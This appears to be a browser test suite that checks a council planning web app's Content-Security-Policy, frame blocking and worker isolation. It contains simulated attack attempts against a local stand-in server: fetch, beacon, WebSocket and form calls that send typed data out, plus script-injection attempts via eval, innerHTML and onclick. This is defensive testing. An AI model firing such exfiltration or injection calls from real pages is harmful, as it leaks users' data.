// The built page is closed: its policy refuses every other address, and the app works under it.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { dist, exampleText, figuresHere, go, launch, newPage, open, pdfPages, serve, top, withPlan } from './support.mjs';
import { paragraphsOf, unzipped } from './unzipped.mjs';

let site;
let other;
let browser;
before(async () => {
  site = await serve(undefined, '/tools/send/');
  // It would let itself be asked by anybody, and remembers what it was asked.
  other = await serve(undefined, '/', { 'access-control-allow-origin': '*' });
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await site?.close();
  await other?.close();
});

// A page that keeps whatever its policy refuses.
async function watched(plan) {
  const page = await newPage(browser);
  await page.addInitScript(() => {
    globalThis.refused = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      globalThis.refused.push(`${effectiveDirective} ${blockedURI}`);
    });
  });
  if (plan) await withPlan(page, plan);
  return page;
}
const refused = (page) => page.evaluate(() => globalThis.refused);

// The Word file, by way of the page and its worker.
async function word(page) {
  await go(page, '#/download');
  await figuresHere(page);
  const item = page.locator('.app-outputs__item', { has: page.locator('#word') });
  const coming = page.waitForEvent('download', { timeout: 120_000 });
  await item.getByRole('button', { name: /^Download/ }).click();
  const found = page.locator('#word-found').waitFor({ timeout: 120_000 });
  const first = await Promise.race([coming.then(() => 'made'), found.then(() => 'found', () => 'made')]);
  if (first === 'found') await item.getByRole('button', { name: 'Make the file all the same' }).click();
  return paragraphsOf(unzipped(await readFile(await (await coming).path())));
}

test('the page begins with its policy and holds no script, style or handler of its own', async () => {
  const html = await readFile(join(dist, 'index.html'), 'utf8');
  assert.match(html, /<head>\s*<meta http-equiv="Content-Security-Policy" content="default-src 'none'; [^"]+">/);
  assert.equal(html.match(/http-equiv/gi).length, 1);
  const page = await newPage(browser, { javaScriptEnabled: false });
  await page.setContent(html);
  const inline = await page.locator('*').evaluateAll((all) => all
    .filter((it) => {
      const names = it.getAttributeNames();
      const isScript = it.localName === 'script' && !(it.hasAttribute('src') && it.textContent === '');
      return isScript || it.localName === 'style' || names.some((name) => name === 'style' || name.startsWith('on'));
    })
    .map((it) => it.outerHTML));
  assert.deepEqual(inline, []);
  assert.equal(await page.locator('script[src]').count(), 1, 'the one that starts the app');
  await page.context().close();
});

const ROUTES = [
  '#/', '#/drafts', '#/setup/area', '#/plan', '#/changes', '#/front', '#/plan/where-we-are-now',
  '#/plan/where-we-are-now/data', '#/scores', '#/scores/differences', '#/answers', '#/combine', '#/paper',
  '#/workshop', '#/parking', '#/priorities', '#/priorities/shortlist', '#/actions', '#/actions/timeline',
  '#/actions/bring-back', '#/check', '#/thread', '#/families', '#/form', '#/explore', '#/explore/E09000025',
  '#/explore/E09000025/timely_20wk_ex_pc/neighbours', '#/figures', '#/open', '#/storage', '#/accessibility',
  '#/data-sources', '#/glossary', '#/whats-new', '#/help', '#/summary',
];

test('the app, its figures, its files and its print work, nothing is refused, and links lead only where they may', async () => {
  const plan = await exampleText();
  const page = await watched(plan);
  await open(page, site.address, '#/plan');
  const schemes = new Set();
  for (const route of ROUTES) {
    await go(page, route);
    await figuresHere(page);
    const links = await page.locator('a[href]').evaluateAll((all) =>
      all.map((it) => [it.getAttribute('href'), it.hasAttribute('download')]));
    for (const [href, isFile] of links) {
      // The page of scoring sheets is the tool's own and stands beside this one.
      const [scheme] = /^(#|https:|mailto:|blob:|data:|scoring-sheets\.html$)/.exec(href) ?? [];
      assert.ok(scheme && (isFile || !/^(blob|data):/.test(scheme)), `${route} has a link to ${href}`);
      schemes.add(scheme);
    }
    assert.equal(await page.locator('form[action], [style], script:not([src]), iframe, object, embed').count(), 0, route);
  }
  assert.ok(schemes.has('#') && schemes.has('https:'), 'sources of figures are linked');

  await page.emulateMedia({ media: 'print' });
  const { pages } = await pdfPages(await page.pdf({ preferCSSPageSize: true, tagged: true }));
  assert.match(pages.map((it) => it.text).join('\n'), /Anyborough/);
  await page.emulateMedia({ media: 'screen' });

  // Pictures go by way of blob: and data:.
  await go(page, '#/explore/E09000025/timely_20wk_ex_pc/neighbours');
  await figuresHere(page);
  await page.locator('main details').evaluateAll((all) => all.forEach((it) => (it.open = true)));
  const [picture] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: /^picture \(PNG\)/ }).first().click(),
  ]);
  assert.match(picture.suggestedFilename(), /\.png$/);

  const { draft } = JSON.parse(plan);
  const paragraphs = await word(page);
  for (const { title } of draft.priorities) assert.ok(paragraphs.some((it) => it.text.includes(title)), title);
  const workers = page.workers().map((it) => it.url()).filter((it) => it.includes('-worker.js'));
  assert.equal(workers.length, 2, 'figures and files each have one');

  assert.deepEqual(await refused(page), []);
  assert.deepEqual(page.troubles, []);
  await page.context().close();
});

// What a script of the page that had been taken over might try to send something to another place,
// or to bring something in. Each is given that place.
const TRIES = {
  'connect-src': [
    (to) => fetch(`${to}fetch`),
    (to) => fetch(`${to}quiet`, { method: 'POST', mode: 'no-cors', body: 'typed' }),
    (to) => navigator.sendBeacon(`${to}beacon`, 'typed'),
    (to) => new WebSocket(to.replace('http', 'ws')),
    (to) => new EventSource(`${to}events`),
  ],
  'img-src': [(to) => { new Image().src = `${to}picture.png`; }],
  'style-src-elem': [
    (to) => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${to}style.css` })),
  ],
  'script-src-elem': [(to) => import(`${to}module.js`)],
  'frame-src': [
    (to) => document.body.append(Object.assign(document.createElement('iframe'), { src: `${to}frame` })),
  ],
  'media-src': [(to) => { new Audio(`${to}sound.mp3`).load(); }],
  'form-action': [
    (to) => {
      const form = Object.assign(document.createElement('form'), { action: `${to}form`, method: 'post' });
      document.body.append(form);
      form.submit();
    },
  ],
};

test('whatever a page would ask of another place is refused before it is asked', async () => {
  const page = await watched();
  await open(page, site.address);
  for (const [directive, tries] of Object.entries(TRIES)) {
    for (const attempt of tries) {
      const from = (await refused(page)).length;
      await page.evaluate(attempt, other.address).catch(() => {});
      await page.waitForFunction((count) => globalThis.refused.length > count, from, { timeout: 5000 })
        .catch(() => assert.fail(`${attempt} was not refused`));
      const said = (await refused(page)).slice(from);
      assert.ok(said.some((it) => it.startsWith(`${directive} `)), `${attempt}: ${said}`);
    }
  }
  assert.deepEqual(other.asked, [], 'the other place heard nothing');
  await page.context().close();
});

test('no text becomes HTML or a script, and only the tool\'s own workers are started', async () => {
  const page = await watched();
  await open(page, site.address);
  const outcomes = await page.evaluate(async (to) => {
    // What a tool of the developer runs may do more than the page may; a later turn is the page's own.
    await new Promise((resolve) => setTimeout(resolve));
    const outcome = (act) => {
      try {
        act();
        return 'went';
      } catch (error) {
        return error.name;
      }
    };
    const script = document.createElement('script');
    return {
      html: outcome(() => { document.createElement('p').innerHTML = '<b>typed</b>'; }),
      code: outcome(() => (0, eval)('1')),
      write: outcome(() => document.write('typed')),
      scriptText: outcome(() => { script.text = '1'; }),
      scriptElsewhere: outcome(() => { script.src = `${to}script.js`; }),
      workerElsewhere: outcome(() => new Worker(`${to}figures-worker.js`)),
      workerOfText: outcome(() => new Worker('data:text/javascript,1')),
      workerOfOtherName: outcome(() => new Worker('boot.js')),
      workerOfOtherFolder: outcome(() => new Worker('figures/figures-worker.js')),
      workerOfUs: outcome(() => new Worker('figures-worker.js?1', { type: 'module' }).terminate()),
      otherRules: outcome(() => trustedTypes.createPolicy('mine', { createHTML: (it) => it })),
      sameName: outcome(() => trustedTypes.createPolicy('default', { createHTML: (it) => it })),
      handler: outcome(() => document.body.setAttribute('onclick', 'globalThis.ran = true')),
    };
  }, other.address);
  assert.deepEqual(Object.entries(outcomes).filter(([, it]) => it === 'went').map(([name]) => name), ['workerOfUs']);
  assert.deepEqual(other.asked, []);
  await page.context().close();
});

// The headers that docs/hosting.md tells a council's server to send.
async function headers() {
  const words = await readFile(join(top, 'docs', 'hosting.md'), 'utf8');
  const [, block] = /Send these headers with every file:\n\n```\n([^`]+)```/.exec(words);
  return Object.fromEntries(block.trim().split('\n').map((line) => line.split(/: (.*)/s)));
}

test('with the headers a server is told to send, all of it works and the workers are closed too', async () => {
  const sent = await serve(undefined, '/', await headers());
  const page = await watched(await exampleText());
  await open(page, sent.address, '#/plan');
  const paragraphs = await word(page);
  assert.ok(paragraphs.some((it) => it.text.includes('Anyborough')));
  const workers = page.workers().filter((it) => it.url().includes('-worker.js'));
  assert.equal(workers.length, 2);
  for (const worker of workers) {
    const outcome = await worker.evaluate((to) => fetch(to).then(() => 'went', (error) => error.name), other.address);
    assert.equal(outcome, 'TypeError', worker.url());
  }
  assert.deepEqual(other.asked, []);
  assert.deepEqual(await refused(page), []);

  // Nobody else shows it in a frame; without the headers somebody may.
  for (const [place, count] of [[site, 1], [sent, 0]]) {
    const around = await newPage(browser);
    await around.setContent(`<iframe src="${place.address}"></iframe>`);
    assert.equal(await around.frames()[1].locator('#app').count(), count, place.address);
    await around.context().close();
  }
  await page.context().close();
  await sent.close();
});
